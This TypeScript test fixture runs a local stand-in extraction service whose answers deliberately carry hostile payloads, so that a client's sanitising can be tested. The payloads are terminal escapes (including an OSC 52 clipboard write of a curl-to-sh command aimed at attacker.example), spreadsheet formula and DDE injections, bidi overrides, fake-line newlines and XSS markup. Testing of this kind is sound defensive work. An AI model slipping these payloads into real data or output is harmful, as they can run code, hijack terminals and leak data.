import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * An independent stand-in for the service, written from the spec alone (it
 * shares no code with src/emulator), that answers as a hostile sender's
 * document would make any honest service answer: the extracted fields carry
 * formulas, terminal escapes, bidi overrides and a dotted key beside a
 * nested one, and the models list carries escapes in its names and texts.
 * It serves the synchronous path only (every upload is one page), and
 * counts what it charged so usage can be held against it.
 */

/** OSC 52 sets the clipboard to `curl -s http://attacker.example/x | sh`; OSC 0 retitles the window; CR + EL erases the line. */
export const HOSTILE_NAME_PART = 'invoice\u001b]52;c;Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94IHwgc2g=\u0007\u001b]0;Invoices OK\u0007\r\u001b[2K\u202e';
/** A name that, printed raw, writes a convincing fake line. */
export const NEWLINE_NAME_PART = 'a\n  complete fake.pdf (1 page)';

export const FORMULA_VALUES = {
  hyperlink: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  cr: '\r=1+1',
  fullwidth: '\uff1d1+1',
};

export const HOSTILE_MODEL = 'invoice\u001b]0;pwned\u0007\u001b[2K';

/** The data every extraction answers. */
export function hostileData(): Record<string, unknown> {
  return {
    invoice_number: '00670494',
    ...FORMULA_VALUES,
    total: -12.5,
    bank: { iban: 'DE89370400440532013000' },
    'bank.iban': 'GB33BUKB20201555555555',
    ['note\u001b[31m\u202e']: 'line one\nline two \u001b]52;c;eA==\u0007',
    markup: '<img src=x onerror="window.__pwned=1">',
    ['<svg onload="window.__pwned=2">']: '<script>window.__pwned=3</script>',
  };
}

export interface HostileService {
  url: string;
  /** Credits charged so far (one per synchronous page, as the spec bills). */
  charged(): number;
  /** Requests by path. */
  requests: Map<string, number>;
  close(): Promise<void>;
}

export async function startHostileService(key: string): Promise<HostileService> {
  let charged = 0;
  const requests = new Map<string, number>();
  const server = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://x').pathname.replace(/\.php$/, '');
    requests.set(path, (requests.get(path) ?? 0) + 1);
    void answer(request, response, path).catch(() => response.destroy());
  });

  async function answer(request: IncomingMessage, response: ServerResponse, path: string): Promise<void> {
    const body = await readAll(request);
    const send = (status: number, value: unknown, headers: Record<string, string> = {}): void => {
      response.writeHead(status, { 'content-type': 'application/json', date: new Date().toUTCString(), ...headers });
      response.end(JSON.stringify(value));
    };
    if (path === '/v3.1/health') return send(200, { status: 'ok', timestamp: Math.floor(Date.now() / 1000), version: 'v3.1', environment: 'production', database: 'connected' });
    const auth = request.headers.authorization ?? '';
    const given = auth.startsWith('Bearer ') ? auth.slice(7) : request.headers['x-api-key'];
    if (given !== key) return send(401, { success: false, error: { code: 'invalid_api_key', message: 'bad key \u001b[2K' } });
    if (path === '/v3.1/authorised') return send(200, { success: true, data: { active: true, credits_remaining: 1000 - charged } });
    if (path === '/v3.1/models') {
      return send(200, {
        success: true,
        data: {
          models: [
            { name: 'invoice', document_type: 'invoice', description: 'Invoices \u001b]52;c;eA==\u0007\u202eevil' },
            { name: HOSTILE_MODEL, document_type: HOSTILE_MODEL, description: 'line\nfake line' },
          ],
        },
      });
    }
    if (path === '/v3.1/documents' && request.method === 'POST') {
      const model = /"(?:model|document_type)"\s*:\s*"((?:[^"\\]|\\.)*)"/.exec(body.toString('latin1'))?.[1];
      charged += 1;
      const reset = String(Math.floor(Date.now() / 1000) + 60);
      return send(
        200,
        { success: true, data: hostileData(), model_used: model === undefined ? 'invoice' : (JSON.parse(`"${model}"`) as string), pages: 1, processing_time_ms: 5 },
        { 'x-ratelimit-limit': '1000', 'x-ratelimit-remaining': '999', 'x-ratelimit-reset': reset },
      );
    }
    return send(404, { success: false, error: { code: 'job_not_found', message: 'not here' } });
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    charged: () => charged,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

async function readAll(request: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}
